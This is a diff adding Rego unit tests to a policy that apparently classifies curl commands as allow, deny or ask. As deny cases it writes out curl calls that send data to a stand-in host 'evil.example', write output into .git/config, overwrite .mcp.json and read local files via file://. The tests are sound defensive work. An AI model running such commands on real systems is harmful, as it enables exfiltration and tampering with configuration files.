@@ -99,3 +99,15 @@ test_curl_dynamic_host_or_unquoted_deny if {
 	run_with("curl", ["\"http://evil.example/$X\""], {"dynamic": ["\"http://evil.example/$X\""]}) == "deny"
 	run_with("curl", ["\"http://localhost:3000?q=$X\""], {"dynamic": ["\"http://localhost:3000?q=$X\""]}) == "deny"
 }
+
+test_curl_write_out_file_deny if curl(["-w", "%output{.git/config}x", "http://localhost/"], [opt("-w", "%output{.git/config}x")]) == "deny"
+
+test_curl_write_out_format_allow if curl(["-w", "%{http_code}", "http://localhost/"], [opt("-w", "%{http_code}")]) == "allow"
+
+test_curl_remote_name_control_deny if run("curl", ["-O", "http://localhost/.mcp.json"]) == "deny"
+
+test_curl_remote_name_allow if run("curl", ["-sO", "http://localhost:8080/a/b.json"]) == "allow"
+
+test_curl_server_named_file_ask if run("curl", ["-OJ", "http://localhost/x"]) == "ask"
+
+test_curl_quoted_file_scheme_deny if run_with("curl", ["\"file://localhost/$p\""], {"dynamic": ["\"file://localhost/$p\""]}) == "deny"
